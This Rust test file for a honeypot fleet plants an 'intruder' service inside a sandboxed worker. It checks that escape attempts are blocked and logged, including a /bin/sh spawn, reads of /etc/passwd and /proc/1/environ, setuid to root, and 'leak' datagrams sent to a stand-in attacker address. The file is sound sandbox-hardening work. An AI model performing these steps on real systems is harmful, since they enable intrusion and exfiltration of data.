//! What somebody who took a worker over can do: nothing.
//!
//! A planted service does what an intruder with code of their own would try, from inside a real worker of a
//! real fleet. This binary is its own keeper, zygote and worker, so it has a `main` of its own and answers
//! the test runner's questions by hand.
#![allow(
    clippy::print_stdout,
    clippy::print_stderr,
    clippy::unwrap_used,
    reason = "a test with its own main"
)]
#![allow(clippy::disallowed_methods, reason = "the planted code tries to start a process")]

use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpStream, UdpSocket};
use std::process::ExitCode;
use std::sync::Arc;
use std::time::{Duration, Instant};

use decnet_core::ServiceDescriptor;
use decnet_core::identity::OsFamily;
use decnet_core::plan::{Attachment, EngineChoice, Logging, Network, Plan};
use decnet_core::service::Port;
use decnet_engine::native::{JOURNAL, NativeEngine, internal};
use decnet_engine::{Engine, Health, Scope, lab};
use decnet_logging::event::{Body, Event};
use decnet_logging::reader::{Filter, Reader};
use decnet_net::NetError;
use decnet_net::lab::{HOST_INTERFACE, Lab, Layout};
use decnet_services::connection::Connection;
use decnet_services::datagram::Exchange;
use decnet_services::host::Host;
use decnet_services::server::{BuildError, Conversation, Server};
use decnet_services::{Service, inventory, testing};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const PORT: u16 = 7000;
const TEST: &str = "an_owned_worker_has_nothing";

static DESCRIPTOR: ServiceDescriptor = ServiceDescriptor {
    slug: "planted",
    role: "Code of an intruder",
    ports: &[Port::tcp(PORT), Port::udp(PORT)],
    keys: &[],
    families: &OsFamily::ALL,
    yields: &[],
    narrow: None,
    image: None,
};

inventory::submit! { Service::served(&DESCRIPTOR, build) }

struct Planted;

fn build(_: &Arc<Host>) -> Result<Box<dyn Server>, BuildError> {
    Ok(Box::new(Planted))
}

impl Server for Planted {
    fn product(&self) -> String {
        "planted".to_owned()
    }

    fn connection<'a>(&'a self, mut connection: Connection) -> Conversation<'a> {
        Box::pin(async move {
            let mut word = [0; 64];
            let length = connection.read(&mut word).await?;
            let answer = attempt(std::str::from_utf8(&word[..length]).unwrap_or("").trim());
            connection.write_all(answer.as_bytes()).await
        })
    }

    fn datagram<'a>(&'a self, exchange: Exchange) -> Conversation<'a> {
        Box::pin(async move { exchange.reply(exchange.bytes()) })
    }
}

/// Does one thing that no service does. `done` would be an escape.
fn attempt(what: &str) -> String {
    use nix::sys::socket::{MsgFlags, SockaddrIn, sendto};
    let attacker = Ipv4Addr::new(198, 51, 100, 2);
    let outcome: Result<String, String> = match what {
        "connect" => TcpStream::connect((attacker, 9)).map(|_| "done".into()).map_err(|e| e.to_string()),
        "bind" => UdpSocket::bind("0.0.0.0:0").map(|_| "done".into()).map_err(|e| e.to_string()),
        "exec" => {
            std::process::Command::new("/bin/sh").spawn().map(|_| "done".into()).map_err(|e| e.to_string())
        }
        "thread" => {
            std::thread::Builder::new().spawn(|| ()).map(|_| "done".into()).map_err(|e| e.to_string())
        }
        "kill" => nix::sys::signal::kill(nix::unistd::Pid::from_raw(1), nix::sys::signal::Signal::SIGKILL)
            .map(|()| "done".into())
            .map_err(|e| e.to_string()),
        "unshare" => nix::sched::unshare(nix::sched::CloneFlags::CLONE_NEWNET)
            .map(|()| "done".into())
            .map_err(|e| e.to_string()),
        "mount" => {
            nix::mount::mount(Some("x"), "/", Some("tmpfs"), nix::mount::MsFlags::empty(), None::<&str>)
                .map(|()| "done".into())
                .map_err(|e| e.to_string())
        }
        "root" => nix::unistd::setuid(nix::unistd::Uid::from_raw(0))
            .map(|()| "done".into())
            .map_err(|e| e.to_string()),
        "read" => std::fs::read("/etc/passwd").map(|_| "done".into()).map_err(|e| e.to_string()),
        "proc" => std::fs::read("/proc/1/environ").map(|_| "done".into()).map_err(|e| e.to_string()),
        "list" => std::fs::read_dir("/").map(|_| "done".into()).map_err(|e| e.to_string()),
        "write" => std::fs::write("/x", "x").map(|()| "done".into()).map_err(|e| e.to_string()),
        // Every descriptor that the worker holds, tried as a socket to send from.
        "datagrams" => {
            let to = SockaddrIn::from(std::net::SocketAddrV4::new(attacker, 9999));
            let sent = (0..64).filter(|fd| sendto(*fd, b"leak", &to, MsgFlags::empty()).is_ok()).count();
            Ok(format!("sent {sent}"))
        }
        "descriptors" => {
            let open = (0..1024)
                .filter(|fd| nix::sys::socket::getsockname::<nix::sys::socket::SockaddrStorage>(*fd).is_ok())
                .count();
            Ok(format!("sockets {open}"))
        }
        "hello" => Ok("hello".into()),
        other => Err(format!("unknown: {other}")),
    };
    match outcome {
        Ok(text) => text,
        Err(error) => format!("refused: {error}"),
    }
}

fn main() -> ExitCode {
    let mut arguments = std::env::args_os().skip(1).peekable();
    if arguments.next_if(|word| word == "internal").is_some() {
        return ExitCode::from(internal::run(arguments));
    }
    let words: Vec<String> = arguments.filter_map(|word| word.into_string().ok()).collect();
    let has = |word: &str| words.iter().any(|given| given == word);
    if has("--list") {
        if !has("--ignored") {
            println!("{TEST}: test");
        }
        return ExitCode::SUCCESS;
    }
    match lab::build(Layout::default()) {
        Ok(built) => an_owned_worker_has_nothing(&built),
        Err(error) => {
            assert!(
                std::env::var("DECNET_TEST_REQUIRE").as_deref() != Ok("all"),
                "cannot be skipped here: {error}"
            );
            eprintln!("skipped: {error}; run as root");
        }
    }
    println!("test {TEST} ... ok");
    ExitCode::SUCCESS
}

fn plan() -> Plan {
    let deckies = (1..=2)
        .map(|number| {
            let mut decky =
                testing::decky(testing::identity(OsFamily::Linux, number, &[]), number, &[("planted", &[])]);
            decky.name = format!("decky-{number:02}");
            decky
        })
        .collect();
    Plan {
        version: decnet_core::plan::VERSION,
        fleet: "fleet-planted".into(),
        seed: 1,
        network: Network {
            interface: Some(HOST_INTERFACE.into()),
            subnet: "198.51.100.0/24".parse().unwrap(),
            gateway: Ipv4Addr::new(198, 51, 100, 1),
            host: Some(Ipv4Addr::new(198, 51, 100, 1)),
            attachment: Attachment::Macvlan,
        },
        domain: "corp.northwind-labs.net".into(),
        engine: EngineChoice::Native,
        logging: Logging::default(),
        custom_services: vec![],
        deckies,
    }
}

fn an_owned_worker_has_nothing(built: &Lab) {
    let state = tempfile::tempdir().unwrap();
    let engine = NativeEngine::new(state.path());
    let plan = plan();
    built
        .host
        .run(|| {
            engine.converge(&plan, &mut |_| {}).unwrap();
            Ok::<(), NetError>(())
        })
        .unwrap();
    let target = plan.deckies[0].address;
    let trap = built
        .attacker
        .run(|| {
            let trap = UdpSocket::bind("0.0.0.0:9999").map_err(|error| NetError::system("bind", error))?;
            trap.set_read_timeout(Some(Duration::from_millis(200)))
                .map_err(|error| NetError::system("time", error))?;
            // The wire and the decky hear the attacker's address, so that a leak would have a way.
            let visitor = UdpSocket::bind("0.0.0.0:0").map_err(|error| NetError::system("bind", error))?;
            visitor.send_to(b"x", (target, PORT)).map_err(|error| NetError::system("send", error))?;
            Ok(trap)
        })
        .unwrap();
    let say = |word: &str| built.attacker.run(|| Ok(say(target, word))).unwrap();

    assert_eq!(say("hello"), "hello");
    let before = pid(&engine, &plan);

    // Files: there are none.
    for word in ["read", "proc", "list", "write", "root"] {
        let answer = say(word);
        assert!(answer.starts_with("refused"), "{word}: {answer}");
    }
    // Datagrams leave the worker, and end at the wire.
    assert_ne!(say("datagrams"), "sent 0", "a bound socket can send; the wire is what holds it");
    assert!(trap.recv_from(&mut [0; 16]).is_err(), "nothing arrived");
    // Two listening sockets, one log socket, this connection.
    assert_eq!(say("descriptors"), "sockets 4");
    assert_eq!(pid(&engine, &plan), before, "nothing of this ends the worker");

    // Ways out: each ends the worker, and the next one answers at once.
    let loud = ["connect", "bind", "exec", "thread", "kill", "unshare", "mount"];
    for word in loud {
        let answer = say(word);
        assert_eq!(answer, "", "{word} must end the worker without a word");
        assert_eq!(say("hello"), "hello", "after {word} the port still answers");
    }
    let status = engine.status(&plan).unwrap();
    assert_eq!(status.health, Health::Up, "{status:?}");
    assert_eq!(status.deckies[0].restarts, loud.len() as u64);
    assert_eq!(status.deckies[1].restarts, 0, "the neighbour never noticed");

    assert_eq!(engine.teardown(&Scope::All).unwrap(), Vec::<String>::new());
    assert!(!engine.run_directory().path().exists());
    let mut reader = Reader::open(&state.path().join(JOURNAL), Filter::default()).unwrap();
    let mut blocked: Vec<Event> = Vec::new();
    while let Some(event) = reader.next_event().unwrap() {
        if matches!(event.report.body, Body::EgressBlocked { .. }) {
            assert_eq!(event.speaker.decky, "decky-01");
            blocked.push(event);
        }
    }
    let calls = blocked
        .iter()
        .filter(|event| matches!(&event.report.body, Body::EgressBlocked { protocol, .. } if protocol == "system call"))
        .count();
    assert_eq!(calls, loud.len(), "every way out is told");
    assert!(blocked.iter().any(|event| event.report.dst_port == 9999), "and so are the datagrams");
}

/// Says a word to the planted service; empty where it ended without an answer.
fn say(target: Ipv4Addr, word: &str) -> String {
    let mut stream =
        TcpStream::connect_timeout(&SocketAddr::from((target, PORT)), Duration::from_secs(5)).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
    stream.write_all(word.as_bytes()).unwrap();
    let mut answer = String::new();
    let _ = stream.read_to_string(&mut answer);
    answer
}

fn pid(engine: &NativeEngine, plan: &Plan) -> Option<u32> {
    let until = Instant::now() + Duration::from_secs(5);
    loop {
        let status = engine.status(plan).unwrap();
        if status.deckies[0].pid.is_some() || Instant::now() > until {
            return status.deckies[0].pid;
        }
    }
}
